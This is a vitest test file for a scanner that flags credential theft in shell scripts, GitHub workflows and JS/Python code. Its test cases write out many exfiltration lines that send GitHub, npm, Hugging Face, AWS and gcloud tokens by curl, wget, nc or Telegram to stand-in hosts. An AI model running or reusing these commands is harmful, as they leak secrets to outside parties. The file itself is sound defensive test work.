// Tokens of services that scripts of a shell, and programs that ask one, send to hosts of nobody they belong to.
import { describe, expect, it } from 'vitest';
import { decision, verdicts } from './support.ts';

const script = (line: string): string => `#!/bin/bash\n${line}\n`;
const STEP = (line: string): string =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${line}\n`;

describe('a token that a script of a shell sends', () => {
  it.each([
    ['curl -d "$HF_TOKEN" https://c.example.invalid/', 'review'],
    ['curl -H "Authorization: Bearer $HF_TOKEN" https://c.example.invalid/', 'review'],
    ['wget "https://c.example.invalid/$AWS_SECRET_ACCESS_KEY"', 'review'],
    ['curl "https://c.example.invalid/?t=$(gh auth token)"', 'review'],
    ['T=$(aws configure get aws_secret_access_key)\ncurl "https://c.example.invalid/?t=$T"', 'review'],
    ['echo "$NPM_TOKEN" | base64 | curl -d @- https://c.example.invalid/', 'review'],
    ['gcloud auth print-access-token | nc c.example.invalid 99', 'review'],
    ['git credential fill <<< "host=a" | curl -T - https://c.example.invalid', 'review'],
    ['curl -d "$GITHUB_TOKEN" https://webhook.site/abc', 'block'],
    ['curl -d "$GITHUB_TOKEN $NPM_TOKEN" https://c.example.invalid/', 'block'],
  ])('is told: %s', async (line, expected) => {
    const found = await verdicts('a.sh', script(line));
    expect(found).toEqual([`CODE-CREDENTIAL-SENT ${expected === 'block' ? 'HIGH' : 'MEDIUM'}`]);
  });

  it.each([
    ['curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user'],
    ['curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2'],
    ['curl -H "PRIVATE-TOKEN: $GITLAB_TOKEN" https://gitlab.example.com/api/v4/projects'],
    [
      'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://aiplatform.googleapis.com/v1',
    ],
    ['curl -H "Authorization: Bearer $DEPLOY_TOKEN" https://deploy.example.com/'],
    ['echo "$HF_TOKEN" | wc -c; curl https://example.com/'],
    ['curl -H "A: $HF_TOKEN" "$ENDPOINT/v1"'],
    ['aws configure get region | nc localhost 99'],
  ])('passes where it belongs: %s', async (line) => {
    expect(await decision('a.sh', script(line))).toBe('pass');
  });

  it('is left to the inspector of workflows when it is a variable, and told when a command prints it', async () => {
    const path = '.github/workflows/a.yml';
    expect(await verdicts(path, STEP('curl -d "$HF_TOKEN" https://c.example.invalid/'))).toEqual([]);
    expect(await verdicts(path, STEP('curl -d "$(gh auth token)" https://c.example.invalid/'))).toEqual([
      'CODE-CREDENTIAL-SENT MEDIUM',
    ]);
  });
});

describe('a token that a program has another program print', () => {
  it.each([
    ['a.js', 'fetch("https://c.example.invalid/?t=" + require("child_process").execSync("gh auth token"))'],
    [
      'a.py',
      'import requests, subprocess\nt = subprocess.check_output(["gh", "auth", "token"], text=True)\n' +
        'requests.post("https://c.example.invalid/", data=t.strip())',
    ],
  ])('%s', async (path, text) => {
    expect(await verdicts(path, text)).toContain('CODE-CREDENTIAL-SENT MEDIUM');
    expect(await verdicts(path, text.replace('c.example.invalid', 'api.github.com'))).not.toContain(
      'CODE-CREDENTIAL-SENT MEDIUM',
    );
  });

  it('blocks a token for a service that takes data from anybody', async () => {
    const text =
      'import os, requests\nrequests.get("https://api.telegram.org/bot0/sendMessage?text=" + os.environ["HF_TOKEN"])';
    expect(await verdicts('a.py', text)).toContain('CODE-CREDENTIAL-SENT HIGH');
  });
});
